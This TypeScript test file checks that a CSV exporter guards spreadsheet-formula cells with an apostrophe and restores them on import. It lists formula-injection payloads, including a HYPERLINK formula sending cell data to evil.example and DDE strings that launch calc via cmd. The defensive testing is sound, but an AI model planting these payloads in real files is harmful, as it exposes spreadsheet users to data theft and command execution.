import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ExportEntry } from '../../src/lib/domain/export/types';
import { languageVersion } from '../../src/lib/domain/national-entry';
import { parseCsv } from '../../src/lib/domain/tabular/csv-reader';
import { csvDocument, guardFormula, unguardFormula } from '../../src/lib/domain/tabular/csv-writing';
import { writeCsv } from '../../src/lib/server/tabular/csv-writer';
import { collectingSink, inPieces } from '../fixtures/tabular/collecting-sink';
import { ROUND_TRIP_META } from '../fixtures/tabular/round-trip-entries';

// What OWASP lists as the start of a cell that Excel, LibreOffice or Google Sheets evaluates.
const FORMULA_PAYLOADS = [
	'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
	"+cmd|' /C calc'!A0",
	'-2+3',
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'\t=1+1',
	'\r=1+1'
];

describe('CSV cells a spreadsheet would take for formulas', () => {
	it('get a leading apostrophe, and no other text changes', () => {
		for (const payload of FORMULA_PAYLOADS) expect(guardFormula(payload)).toBe(`'${payload}`);
		expect(guardFormula('Cyber attack = an attack')).toBe('Cyber attack = an attack');
		expect(guardFormula('кибератака')).toBe('кибератака');
		expect(guardFormula("l'attaque")).toBe("l'attaque");
		expect(guardFormula('')).toBe('');
	});

	it('a text that already starts with apostrophes before such a character keeps them all on the way back', () => {
		expect(guardFormula("'=1+1")).toBe("''=1+1");
		expect(unguardFormula("''=1+1")).toBe("'=1+1");
		expect(unguardFormula("'plain")).toBe("'plain");
	});

	it('unguarding undoes guarding for every text', () => {
		const roundTrip = (text: string) => {
			expect(unguardFormula(guardFormula(text))).toBe(text);
		};
		fc.assert(
			fc.property(fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', ' ', 'é') }), roundTrip)
		);
		fc.assert(fc.property(fc.string(), roundTrip));
	});

	it('a whole file has a byte order mark, CRLF after every record, and numbers as they are', () => {
		const text = csvDocument(
			['Name', 'Score'],
			[
				['=1+1', -0.5],
				['two\nlines', null]
			]
		);
		expect(text).toBe('\uFEFFName,Score\r\n\'=1+1,-0.5\r\n"two\nlines",\r\n');
	});
});

describe('a national list with formula-like texts', () => {
	const entry: ExportEntry = {
		entryId: 7,
		content: {
			languageVersions: FORMULA_PAYLOADS.slice(0, 4).map((payload, index) =>
				languageVersion({
					language: ['de', 'en', 'fr', 'ru'][index]!,
					isOriginal: index === 0,
					term: payload,
					definition: `${payload} (definition)`,
					note: "'=already quoted"
				})
			),
			sourceAct: '=HYPERLINK("http://evil.example")',
			sourceArticle: '@A1',
			sourceDate: null,
			sourceUrl: null,
			note: '+note'
		}
	};

	it('is written with every such cell guarded, and imported again exactly as it was', async () => {
		const text = [...writeCsv([entry], ROUND_TRIP_META)].join('');
		const cells = text.split('\r\n')[1]!;
		expect(cells).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
		expect(cells).toContain("'@A1");
		expect(cells).toContain("''=already quoted");
		expect(cells).not.toMatch(/(^|,)"?[=+@\-\t\r]/);

		const sink = collectingSink();
		await parseCsv(inPieces(text, 64), sink, {});
		expect(sink.messages()).toEqual([]);
		expect(sink.entries.map((read) => read.content)).toEqual([entry.content]);
	});
});
